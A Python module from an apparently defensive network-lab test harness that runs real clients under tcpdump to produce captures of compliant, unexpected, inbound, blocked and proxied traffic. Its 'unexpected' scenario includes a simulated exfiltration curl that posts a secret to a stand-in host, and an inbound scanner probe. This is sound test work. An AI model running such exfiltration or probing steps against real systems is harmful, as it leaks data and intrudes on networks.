"""One function per lab scenario: real clients under tcpdump; returns the capture and what the clients saw.

``Run.clients`` maps a label to (exit status, stdout+stderr tail) so the tests can first check that the
clients did what the scenario means (a 200, a 403, a timeout) before judging the capture.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass, field
from subprocess import CompletedProcess

from .lab import (
    ANTHROPIC,
    ARCHIVE,
    CP_NAME,
    DENIED,
    EXFIL,
    GET,
    GHOST_SANDBOX,
    LAN,
    LOOKUP_ONLY,
    OPENAI,
    PUBLIC_RESOLVER,
    REGISTRY,
    S3,
    SCANNER,
    WEB,
    Lab,
    LabCapture,
)
from .netlab import ip

PIP = (sys.executable, "-m", "pip")

WS_CHANNELS = ("/api/v1/revdial?runnerid=hydra-1", "/api/v1/external-agents/sync?session_id=ses_1")


@dataclass
class Run:
    capture: LabCapture
    clients: dict[str, tuple[int, str]] = field(default_factory=dict)

    def note(self, label: str, done: CompletedProcess[str]) -> None:
        self.clients[label] = (done.returncode, (done.stdout + done.stderr)[-400:])


def _run(lab: Lab, name: str, role: str, iface: str, steps) -> Run:  # noqa: ANN001
    dump = lab.capture(name, role, iface)
    clients: dict[str, CompletedProcess[str]] = {}
    try:
        steps(clients)
    finally:
        pcap = dump.stop()
    run = Run(LabCapture(pcap, lab.site))
    for label, done in clients.items():
        run.note(label, done)
    return run


def compliant(lab: Lab) -> Run:
    def steps(c: dict) -> None:
        c["dig"] = lab.client("sandbox", "dig", "+time=2", "+tries=1", REGISTRY, "A")
        c["dig6"] = lab.client("sandbox", "dig", "+time=2", "+tries=1", "-6", "@fd77::53", CP_NAME, "AAAA")
        c["ws"] = lab.websocket("sandbox", *(f"ws://{CP_NAME}:8080{p}" for p in WS_CHANNELS))
        c["wss"] = lab.websocket("sandbox", f"wss://{CP_NAME}{WS_CHANNELS[0]}")
        c["registry"] = lab.curl("sandbox", f"https://{REGISTRY}/v2/")
        c["get"] = lab.curl("sandbox", f"https://{GET}/install.sh")
        c["git"] = lab.client(
            "sandbox",
            "git",
            "clone",
            "-q",
            "https://github.com/helixml/demo.git",
            str(lab.dir / "clone"),
            timeout=60,
        )
        c["pip"] = lab.client(
            "sandbox",
            *PIP,
            "download",
            "--no-deps",
            "--no-cache-dir",
            "--disable-pip-version-check",
            "--index-url",
            "https://pypi.org/simple/",
            "--cert",
            str(lab.ca),
            "-d",
            str(lab.dir / "wheels"),
            "labpkg",
            timeout=90,
        )

    return _run(lab, "compliant", "sandbox", "eth0", steps)


def unexpected(lab: Lab) -> Run:
    def steps(c: dict) -> None:
        c["exfil"] = lab.curl("sandbox", f"https://{EXFIL}/upload", "--data-binary", "secret=1")
        c["lookup"] = lab.client("sandbox", "dig", "+time=2", "+tries=1", LOOKUP_ONLY, "A")
        c["resolver"] = lab.client(
            "sandbox", "dig", "+time=2", "+tries=1", f"@{PUBLIC_RESOLVER}", REGISTRY, "A"
        )
        c["ws"] = lab.websocket("sandbox", f"ws://{CP_NAME}:8080/api/v1/ws/evil")

    return _run(lab, "unexpected", "sandbox", "eth0", steps)


def inbound(lab: Lab) -> Run:
    sandbox = LAN["sandbox"][0]

    def steps(c: dict) -> None:
        c["accepted"] = lab.curl("inet", f"http://{sandbox}:47984/serverinfo", "--interface", SCANNER)
        c["reset"] = lab.curl("inet", f"http://{sandbox}:22/", "--interface", SCANNER)
        c["silent"] = lab.curl(
            "inet", f"http://{GHOST_SANDBOX}:48010/", "--interface", SCANNER, "--connect-timeout", "3"
        )

    return _run(lab, "inbound", "sandbox", "eth0", steps)


def blocked(lab: Lab) -> Run:
    """Firewall in ``fw``: registry dropped and S3 prohibited for the control plane; get's server down."""
    fw, cp = lab.topo.name("fw"), LAN["control"][0]
    rules = [("from", cp, "to", WEB[REGISTRY], "blackhole"), ("from", cp, "to", WEB[S3], "prohibit")]
    for rule in rules:
        ip("rule", "add", *rule, ns=fw)
    lab.stop_web(GET)

    def steps(c: dict) -> None:
        c["no_answer"] = lab.curl("control", f"https://{REGISTRY}/v2/")
        c["reset"] = lab.curl("control", f"https://{GET}/install.sh")
        c["icmp"] = lab.curl("control", f"https://{S3}/blob")
        c["nxdomain"] = lab.curl("control", f"https://{ANTHROPIC}/v1/messages")
        c["refused_aaaa"] = lab.client("control", "dig", "+time=2", "+tries=1", OPENAI, "AAAA")
        c["openai"] = lab.curl("control", f"https://{OPENAI}/v1/models", "-4")
        c["tls_alert"] = lab.curl("sandbox", f"https://{S3}/blob", "--tls-max", "1.2")

    try:
        return _run(lab, "blocked", "fw", "br-lan", steps)
    finally:
        for rule in rules:
            ip("rule", "del", *rule, ns=fw)
        lab.start_web(GET)


def proxied(lab: Lab) -> Run:
    proxy = f"http://{LAN['proxy'][0]}:3128"

    def steps(c: dict) -> None:
        c["connect_ok"] = lab.curl("sandbox", f"https://{REGISTRY}/v2/", "-x", proxy)
        c["connect_denied"] = lab.curl("sandbox", f"https://{DENIED}/", "-x", proxy)
        c["absolute_uri"] = lab.curl("sandbox", f"http://{ARCHIVE}/ubuntu/dists/noble/InRelease", "-x", proxy)

    return _run(lab, "proxied", "sandbox", "eth0", steps)
